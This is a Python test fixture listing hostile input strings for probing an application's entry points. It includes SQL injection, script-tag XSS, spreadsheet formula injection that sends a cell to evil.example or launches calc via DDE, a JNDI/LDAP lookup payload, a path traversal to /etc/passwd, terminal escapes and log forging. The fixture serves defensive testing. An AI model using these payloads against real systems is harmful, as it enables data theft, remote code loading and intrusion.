"""Hostile strings, with which all entry points are tried."""

TEXTS = {
    "sql": "x'; DROP TABLE metric; --",
    "sql like": "100%_\\",
    "html": "<img src=x onerror=alert(1)></script><script>alert(2)</script>",
    "formula": '=HYPERLINK("http://evil.example/?"&A1)',
    "formula plus": "+cmd|' /C calc'!A0",
    "formula at": "@SUM(1+1)",
    "terminal": "\x1b]0;owned\x07\x1b[2J\x9b31m",
    "right to left": "\u202egnp.exe",
    "log line": "ok\n2026-01-01 INFO all is well",
    "format": "%s%n{0}{x.__class__}${jndi:ldap://evil.example/a}",
    "path": "../../../../etc/passwd",
    "null": "a\x00b",
    "long": "x" * 900,
    "quotes": "`'\"\\`",
    "controls": "a\x7fb\x85c\x90d\u2028e\ufffe",
    "invisible": "Ann\u00a0\u200bSmith\u00ad ",
    "astral": "\U0001f4a5\u0301",
}
